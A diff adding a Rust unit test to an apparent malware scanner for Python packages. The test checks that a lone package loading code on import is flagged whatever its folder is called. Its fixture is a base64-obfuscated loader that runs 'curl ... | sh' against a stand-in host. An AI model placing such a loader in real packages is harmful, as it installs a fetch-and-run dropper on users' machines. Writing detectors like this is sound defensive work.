@@ -226,3 +226,28 @@ fn a_cgo_file_with_a_download_helper_is_not_a_dropper() {
     );
     assert_not_verdict(&analysis, Verdict::Malicious);
 }
+
+/// A folder name such as `tools` marks tooling, but a distribution's only package runs
+/// on import whatever it is called; naming it `tools` must not hide its payload.
+#[test]
+fn the_only_package_counts_though_it_is_named_like_tooling() {
+    let loader = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwczovL2RsLmZpbGVzLmV4YW1wbGUvYSB8IHNoJykK'))\n";
+    let sdist_with = |folder: &str, extra: &[(&str, &[u8])]| {
+        let init = format!("fastutil-1.0/{folder}/__init__.py");
+        let mut files: Vec<(&str, &[u8])> = vec![
+            (
+                "fastutil-1.0/PKG-INFO",
+                b"Metadata-Version: 2.1\nName: fastutil\nVersion: 1.0\n",
+            ),
+            (init.as_str(), loader.as_bytes()),
+        ];
+        files.extend_from_slice(extra);
+        analyse(&files)
+    };
+    for folder in ["tools", "scripts", "demo"] {
+        assert_verdict(&sdist_with(folder, &[]), Verdict::Malicious);
+    }
+    // Beside the real package, `tools` is the developer's tooling.
+    let beside = sdist_with("tools", &[("fastutil-1.0/fastutil/__init__.py", b"")]);
+    assert_not_verdict(&beside, Verdict::Malicious);
+}
